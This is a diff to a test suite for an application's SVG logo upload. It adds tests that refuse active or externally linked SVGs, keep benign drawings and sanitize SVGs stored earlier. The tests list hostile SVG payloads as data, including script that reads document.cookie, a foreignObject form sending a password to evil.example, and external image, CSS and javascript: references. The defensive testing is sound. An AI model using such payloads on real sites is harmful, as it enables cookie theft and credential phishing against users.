@@ -1,3 +1,4 @@
+import Database from 'better-sqlite3';
 import {
   applicationDetailResponseSchema,
   applicationListResponseSchema,
@@ -393,17 +394,71 @@ describe('POST applications/logo', () => {
     ).toMatch(/\.jpg$/);
   });
 
-  it('serves a hostile SVG as image/svg+xml under a CSP that runs nothing', async () => {
-    const hostile =
-      '<?xml version="1.0"?><!-- logo --><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.cookie)</script><rect width="10" height="10"/></svg>';
-    const { data } = expectOk(await upload(base64(hostile), 'logo.svg'), logoUploadResponseSchema, 201);
+  it('refuses an SVG that could act: scripts, event attributes, foreignObject, external references (issue 36)', async () => {
+    const refused =
+      'Logo SVG hanya boleh berisi gambar: skrip, foreignObject, tautan ke luar, dan atribut peristiwa tidak diizinkan.';
+    const svg = (inner: string, attrs = '') =>
+      `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"${attrs}>${inner}</svg>`;
+    const hostile = [
+      svg('<rect width="10" height="10"/>', ' onload="alert(1)"'),
+      svg('<script>alert(document.cookie)</script>'),
+      svg(
+        '<foreignObject width="200" height="100"><form xmlns="http://www.w3.org/1999/xhtml" action="https://evil.example/steal"><input name="password"/><button>Masuk</button></form></foreignObject>',
+      ),
+      svg('<image href="https://evil.example/pixel.png" width="1" height="1"/>'),
+      svg('<use xlink:href="https://evil.example/sprite.svg#a"/>'),
+      svg('<a href="javascript:alert(1)"><rect width="10" height="10"/></a>'),
+      svg('<rect width="10" height="10" style="fill: url(https://evil.example/x)"/>'),
+      svg('<style>@import url(https://evil.example/a.css);</style><rect width="1" height="1"/>'),
+      svg('<rect width="1" height="1"><set attributeName="fill" to="red"/></rect>'),
+      '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">]><svg xmlns="http://www.w3.org/2000/svg"><text>&a;</text></svg>',
+    ];
+    for (const text of hostile) {
+      expect([text, expectError(await upload(base64(text), 'logo.svg'), 422).errors]).toEqual([
+        text,
+        { logo: refused },
+      ]);
+    }
+  });
+
+  it('keeps a drawing (gradients, inner references, styles) and serves it inline under a CSP that runs nothing', async () => {
+    const drawing =
+      '<?xml version="1.0"?><!-- logo --><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10"><defs><linearGradient id="g"><stop offset="0" stop-color="#1e88e5"/></linearGradient><circle id="c" r="2"/></defs><style>.a{fill:#fff}</style><rect width="10" height="10" fill="url(#g)"/><use xlink:href="#c" x="5" y="5" class="a"/><metadata><editor-note>v1</editor-note></metadata></svg>';
+    const { data } = expectOk(await upload(base64(drawing), 'logo.svg'), logoUploadResponseSchema, 201);
     const served = await callRoot(t.app, 'GET', new URL(data.logo_url).pathname);
     expect(served.headers.get('content-type')).toBe('image/svg+xml');
     expect(served.headers.get('content-security-policy')).toBe(
-      "default-src 'none'; style-src 'unsafe-inline'",
+      "default-src 'none'; style-src 'unsafe-inline'; form-action 'none'; frame-ancestors 'none'; sandbox",
     );
+    expect(served.headers.get('content-disposition')).toBe('inline');
     expect(served.headers.get('x-content-type-options')).toBe('nosniff');
-    expect(served.body).toBe(hostile);
+    expect(served.body).toContain('<linearGradient id="g">');
+    expect(served.body).toContain('xlink:href="#c"');
+    expect(served.body).toContain('viewBox="0 0 10 10"');
+    expect(served.body).not.toContain('editor-note');
+    // The generated logos carry the same headers.
+    const generated = await callRoot(t.app, 'GET', '/static/logos/app-1.svg');
+    expect(generated.headers.get('content-security-policy')).toBe(
+      served.headers.get('content-security-policy'),
+    );
+    expect(generated.headers.get('content-disposition')).toBe('inline');
+  });
+
+  it('serves an SVG stored before the rule as its drawing only', async () => {
+    const hostile =
+      '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script><rect width="10" height="10"/></svg>';
+    const db = new Database(t.dbFile);
+    const id = Number(
+      db
+        .prepare("INSERT INTO app_logos (mime, bytes, created_at) VALUES ('image/svg+xml', ?, 0)")
+        .run(Buffer.from(hostile)).lastInsertRowid,
+    );
+    db.close();
+    const served = await callRoot(t.app, 'GET', `/static/logos/upload-${id}.svg`);
+    expect(served.statusCode).toBe(200);
+    expect(served.body).toBe(
+      '<svg xmlns="http://www.w3.org/2000/svg"><rect width="10" height="10"></rect></svg>',
+    );
   });
 
   it('refuses more than 256 KB, an empty file and what is not base64', async () => {
